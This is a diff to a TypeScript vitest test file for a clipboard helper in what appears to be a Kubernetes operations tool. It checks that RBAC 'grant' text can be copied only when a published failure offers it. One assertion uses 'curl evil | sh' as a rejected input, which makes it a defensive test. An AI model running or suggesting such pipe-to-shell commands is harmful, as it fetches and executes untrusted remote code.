@@ -1,6 +1,6 @@
 import { expect, it } from 'vitest'
 import type { CommandView } from '../../contract/index.ts'
-import { FailureError } from '../../contract/index.ts'
+import { FailureError, failureOf } from '../../contract/index.ts'
 import { clipboardText, type Copyable } from './clipboard-text.ts'
 
 function command(seq: number, line: string): CommandView {
@@ -20,14 +20,14 @@ function command(seq: number, line: string): CommandView {
 
 const from: Copyable = {
   plan: null,
-  failure: null,
   record: {
     health: { state: 'healthy', path: '/journal', lastSeq: 9 },
     commands: [command(3, "kubectl --context 'a b' get pods"), command(4, 'kubectl rollout undo deployment/a')],
     timeline: []
   },
   report: { fields: {} as Copyable['report']['fields'], markdown: '# Report\n\nText\n', missing: [] },
-  checklist: { runbook: '', title: '', subtitle: '', tasks: [], contacts: [], problems: [] }
+  checklist: { runbook: '', title: '', subtitle: '', tasks: [], contacts: [], problems: [] },
+  published: []
 }
 
 it('is one command exactly as it was executed', () => {
@@ -49,7 +49,24 @@ it.each([
   { kind: 'command', seq: 9 },
   { kind: 'taskCommand', taskId: 'undo', index: 0 },
   { kind: 'planCommand', planId: 'gone' },
-  { kind: 'grant' }
+  { kind: 'grant', grant: 'kind: Role' }
 ] as const)('is refused for what main has not published: %j', (what) => {
   expect(() => clipboardText(what, from)).toThrow(FailureError)
+})
+
+it('is the grant of the failure that offers it, wherever the window shows it', () => {
+  const failure = (verb: string) => failureOf('forbidden', 'No', { grant: `kind: Role # ${verb}\n` })
+  const published = [
+    { environment: null, failure: failure('get') },
+    { list: { state: 'forbidden', failure: failure('list'), observedAt: '' } },
+    { pods: { state: 'value', value: [null, 1, 'text'] }, deployment: { failure: failure('watch') } },
+    { plan: { blocked: failure('patch'), guards: [], preview: { failure: failure('update') } }, failure: null },
+    null,
+    failure('create')
+  ]
+  for (const verb of ['get', 'list', 'watch', 'patch', 'update', 'create']) {
+    const grant = `kind: Role # ${verb}\n`
+    expect(clipboardText({ kind: 'grant', grant }, { ...from, published })).toBe(`kind: Role # ${verb}`)
+  }
+  expect(() => clipboardText({ kind: 'grant', grant: 'curl evil | sh' }, { ...from, published })).toThrow(FailureError)
 })
